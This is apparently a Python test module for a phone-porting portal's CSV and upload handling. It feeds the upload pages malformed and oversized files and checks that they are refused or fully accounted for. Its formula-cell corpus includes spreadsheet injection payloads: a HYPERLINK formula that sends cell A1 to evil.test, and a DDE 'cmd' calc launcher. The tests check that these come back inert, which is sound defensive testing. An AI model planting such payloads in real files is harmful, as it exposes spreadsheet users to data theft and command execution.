"""Hostile CSV, text and JSON wherever numbers or requests enter (issue #12, part 4).

Numbers enter through the check page (typed or a CSV), the wizard's numbers step (checked, and
added to a draft), the fax ticket's box and the inventory import; requests through the JSON API.
Each gets a corpus built here (formula cells, a 1 MB row, the row limit and one over it, odd
encodings, control and format characters, binaries named .csv; bodies that are not JSON, too
deep, too big, of every wrong type) and, per API endpoint, a hypothesis property. Whatever
arrives: no 500, the user reads what is wrong, a refusal stores nothing, and an accepted file
loses no row silently (each row is a result or named as a problem).
"""

import csv
import html as html_module
import io
import re
from typing import NamedTuple

import pytest
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from portal.models import (
    Document,
    DocumentContent,
    FaxTicket,
    NumberClaim,
    NumberUpload,
    PortNumber,
    PortRequest,
    RequestEvent,
    RoutingTarget,
    TrackingSource,
)
from portal.number_lists import CSV_MAX_BYTES
from portal.portability import MAX_ENTRIES
from tests.test_fax import PDF, PNG

PORTABLE = "(212) 736-5000"
HEADER = "phone_number,account_id,tracking_source_id,routing_id,friendly_name"
TABLES = (
    NumberUpload, PortRequest, PortNumber, RequestEvent, Document, DocumentContent, NumberClaim,
    FaxTicket,
)  # fmt: skip
SAVE_AS_CSV = "save it as CSV (File > Save As > CSV UTF-8) and upload that"
BINARY = f"This is not a CSV file (it holds binary data): {SAVE_AS_CSV}."
ZIP = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(range(256))


def counts(app):
    """Return every table a refused request must leave alone, with its row count."""
    with app.app_context():
        return {model._meta.table_name: model.select().count() for model in TABLES}


def text_of(response):
    return html_module.unescape(response.get_data(as_text=True))


def numbered_rows(data):
    """Return the numbers a spreadsheet gives the file's non-blank data rows (header is row 1)."""
    try:
        text = data.decode("utf-8-sig")
    except UnicodeDecodeError:
        text = data.decode("cp1252")  # as the app reads Excel's Windows CSV
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return {number for number, cells in enumerate(rows, 1) if any(c.strip() for c in cells)} - {1}


@pytest.fixture
def inventory(app, accounts):
    acme, globex = accounts
    with app.app_context():
        TrackingSource.create(id=31, account=acme, name="Google Ads")
        RoutingTarget.create(id=901, account=acme, name="Front desk", kind="receiving_number")
        RoutingTarget.create(id=902, account=globex, name="Office", kind="number")
    return accounts


@pytest.fixture
def draft(app, inventory):
    """The owner's draft, whose numbers step takes the uploads."""
    with app.app_context():
        return PortRequest.create(account=inventory[0], details="{}").id


# ---------------------------------------------------------------------------------------------
# CSV uploads: the check page, and the wizard's numbers step (checked, or added to the draft).

# What each refused file makes the page say (the sentence, or its start).
REFUSED_FILES = {
    "empty": (b"", "The file is empty: add your numbers to the template and upload it."),
    "header only": (
        HEADER.encode() + b"\r\n",
        "The file has only a header row: add your numbers below it.",
    ),
    "duplicate headers": (
        b"phone_number,friendly_name,phone_number\n2127365000,a,2127365001\n",
        "Row 1: the column phone_number appears twice.",
    ),
    "10,000 header columns": (
        b"phone_number" + b",note" * 9_999 + b"\n2127365000\n",
        "Row 1: unknown columns 'note', 'note'",
    ),
    "unbalanced quote": (
        f'{HEADER}\n"2127365000,,,,Main\n2127365001,,,,Side\n'.encode(),
        "Row 2: a quote opened in phone_number is never closed",
    ),
    "UTF-16 LE": (("\ufeff" + HEADER + "\n2127365000\n").encode("utf-16-le"), "UTF-16 text"),
    "UTF-16 BE": (("\ufeff" + HEADER + "\n2127365000\n").encode("utf-16-be"), "UTF-16 text"),
    "undecodable bytes": (
        b"phone_number\n2127365000\n\x81\x8d\x8f\x90\x9d\n",
        f"This file is not UTF-8 text: {SAVE_AS_CSV}.",
    ),
    "NUL byte": (b"phone_number\n212736\x005000\n", BINARY),
    "control characters": (b"phone_number\n2127365000\x07\x1b[31m\n", BINARY),
    "PNG named .csv": (PNG, BINARY),
    "ZIP named .csv": (ZIP, f"This looks like an Excel workbook: {SAVE_AS_CSV}."),
    "PDF named .csv": (PDF, "This is a PDF, not a CSV file"),
    "a 1 MB row": (
        f"{HEADER}\n{PORTABLE},,,,{'x' * 2**20}\n2127365001\n".encode(),
        "Row 2: a cell in friendly_name is over 131,072 characters, longer than any number or",
    ),
    "a 1 MB number": (
        f"phone_number\n{'2' * 2**20}\n2127365001\n".encode(),
        "Row 2: a cell in phone_number is over 131,072 characters, longer than any number or",
    ),
    "over the size limit": (
        b"phone_number\n" + b"x" * CSV_MAX_BYTES,
        "The file is over the 4 MB limit: split it into smaller files.",
    ),
    "1,000,000 short rows": (
        b"phone_number\n" + b"1\n" * 1_000_000,
        f"The file has 1,000,000 rows of numbers; one check takes at most {MAX_ENTRIES:,}.",
    ),
    "one row over the limit": (
        b"phone_number\n" + b"2127365000\n" * (MAX_ENTRIES + 1),
        f"The file has {MAX_ENTRIES + 1:,} rows of numbers; one check takes at most",
    ),
}

FORMULAS = [
    '=HYPERLINK("http://evil.test/?"&A1,"2127365000")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1 212 736 5001",
    "-1",
    "=1+1",
]
# Files the page takes: the bytes, and what a row's text must come back as in the results CSV.
ACCEPTED_FILES = {
    "formula cells": (
        "\n".join(
            [HEADER]
            + [f'"{cell.replace(chr(34), chr(34) * 2)}",,,,{PORTABLE}' for cell in FORMULAS]
            + [f'{PORTABLE},,,,"{cell.replace(chr(34), chr(34) * 2)}"' for cell in FORMULAS]
            + ['"\t=2+2",,,,"\t=3+3"']
        ).encode()
    ),
    "a 100 KB name": f"{HEADER}\n{PORTABLE},,,,{'x' * 100_000}\n2127365001\n".encode(),
    "a 100 KB number": f"phone_number\n{'2' * 100_000}\n2127365001\n".encode(),
    "a row of 10,000 cells": f"phone_number\n{PORTABLE}{',9' * 9_999}\n2127365001\n".encode(),
    "UTF-8 with BOM": ("\ufeff" + HEADER + f"\n{PORTABLE},,,,Café\n").encode(),
    "Latin-1 bytes": (HEADER + f"\n{PORTABLE},,,,Café Müller\n").encode("latin-1"),
    "invalid UTF-8": b"phone_number,friendly_name\n2127365000,\xc3\x28 caf\xe9\n",
    "bidi and zero-width in numbers": (
        "phone_number\n212\u202e736\u202c5000\n\u200b2127365001\n212\u200d736\ufeff5002\n"
        "\u2066212-736-5003\u2069\n"
    ).encode(),
    "fullwidth digits": "phone_number\n２１２７３６５０００\n（２１２）７３６－５００１\n".encode(),
    "CRLF, CR and LF mixed": (
        b"phone_number\r\n2127365000\r2127365001\n2127365002\r\n\r\n2127365003"
    ),
    "rows with problems": (
        f"{HEADER}\n,4242,,,No number\n1.21274E+11,,,,Lost\n{PORTABLE},5151,31,902,Other\n"
        f"{PORTABLE},Acme Dental,Google Ads,77,Names\n"
    ).encode(),
    "the row limit": b"phone_number\n" + b"2127365000\n" * MAX_ENTRIES,
}
# Which step each upload is posted to, and its URL.
UPLOAD_STEPS = {
    "check page": lambda draft: "/check/",
    "wizard check": lambda draft: f"/port-requests/{draft}/numbers/check",
    "wizard add": lambda draft: f"/port-requests/{draft}/numbers/add",
}
# The big files cost seconds per step: the check page reads them as the wizard does.
CHECK_PAGE_ONLY = {"1,000,000 short rows", "over the size limit", "the row limit"}


class Answer(NamedTuple):
    status_code: int
    text: str  # the page's text, entities unescaped


def upload(client, url, data, name="numbers.csv", **form):
    """Post the file as a browser does (multipart), and return the answer.

    Encoded here in memory: the test client spools a big body to a temporary file it never
    closes, which the warning filter would fail some later test for."""
    chosen = FileStorage(io.BytesIO(data), filename=name, content_type="text/csv")
    boundary, body = encode_multipart({"csv_file": chosen, **form})
    kind = f"multipart/form-data; boundary={boundary}"
    with client.post(url, data=body, content_type=kind) as response:
        return Answer(response.status_code, text_of(response))


@pytest.mark.parametrize("step", UPLOAD_STEPS)
def test_a_refused_file_says_why_and_stores_nothing(app, owner_client, draft, step):
    # One app for the whole corpus: each file is a separate upload to the same step.
    for name, (data, sentence) in REFUSED_FILES.items():
        if step != "check page" and name in CHECK_PAGE_ONLY:
            continue
        before = counts(app)
        response = upload(owner_client, UPLOAD_STEPS[step](draft), data)
        assert response.status_code == 200, name
        alert = re.search(r'role="alert">(.*?)</div>', response.text, re.S)
        assert alert and sentence in alert.group(1), (name, response.text[-3000:])
        assert counts(app) == before, name


def results_download(client, page):
    """Download the results CSV the page offers (all rows, not only the 500 it shows)."""
    upload_id = re.search(r'id="upload" name="upload" type="hidden" value="(\d+)"', page)
    response = client.post("/check/results.csv", data={"upload": upload_id.group(1), "reason": ""})
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def test_an_accepted_file_accounts_for_every_row_on_the_check_page(app, owner_client):
    for kept, (name, data) in enumerate(ACCEPTED_FILES.items(), 1):
        response = upload(owner_client, "/check/", data)
        assert response.status_code == 200, name
        page = response.text
        assert 'role="alert"' not in page.split("check-summary")[0], (name, page[-3000:])
        results = results_download(owner_client, page)
        checked = re.search(r"([\d,]+) numbers? checked from numbers\.csv", page)
        assert int(checked.group(1).replace(",", "")) == len(results), name
        # Every row is a result, or named as a problem (a row without a usable number).
        named = {int(row) for row in re.findall(r"<li>Row (\d+), ", page)}
        assert {int(row["line"]) for row in results} | named == numbered_rows(data), name
        with app.app_context():
            assert NumberUpload.select().count() == kept, name
        # No cell of the results runs as a formula in a spreadsheet.
        for row in results:
            for cell in row.values():
                assert not cell.startswith(("=", "@", "\t", "\r")), (name, row)
                assert not (cell.startswith(("+", "-")) and re.search(r"[A-Za-z(]", cell)), row


def test_formula_cells_come_back_inert_but_as_written(owner_client, draft):
    results = results_download(
        owner_client, upload(owner_client, "/check/", ACCEPTED_FILES["formula cells"]).text
    )
    inputs = [row["input"] for row in results[: len(FORMULAS)]]
    assert inputs == [
        '\'=HYPERLINK("http://evil.test/?"&A1,"2127365000")',
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "+1 212 736 5001",
        "-1",
        "'=1+1",
    ]
    names = [row["friendly_name"] for row in results[len(FORMULAS) :]]
    assert names == [*(inputs[:2]), "+1 212 736 5001", "-1", "'=1+1", "'=3+3"]


def test_an_accepted_file_added_to_a_draft_keeps_every_usable_row(app, owner_client, inventory):
    for name, data in ACCEPTED_FILES.items():
        if name in CHECK_PAGE_ONLY:
            continue
        with app.app_context():
            draft = PortRequest.create(account=inventory[0], details="{}").id
        before = counts(app)
        response = upload(owner_client, f"/port-requests/{draft}/numbers/add", data)
        assert response.status_code in (200, 302), name
        page = text_of(owner_client.get(f"/port-requests/{draft}/numbers"))
        with app.app_context():
            added = PortNumber.select().where(PortNumber.port_request == draft).count()
        if "100 KB" in name:
            # Too long to keep as a row's text: refused whole, and said so.
            assert "characters long: shorten it and add the numbers again." in response.text
            # The file itself stays with the page's check results, as any checked file does.
            before["number_upload"] += 1
            assert (added, counts(app)) == (0, before), name
            continue
        assert f"Added {added:,} number" in page, name
        # A row not added is named; a named row may have been added too (an ID left empty).
        named = set(map(int, re.findall(r"Row (\d+), ", page)))
        assert 0 < added <= len(numbered_rows(data)) <= added + len(named), name
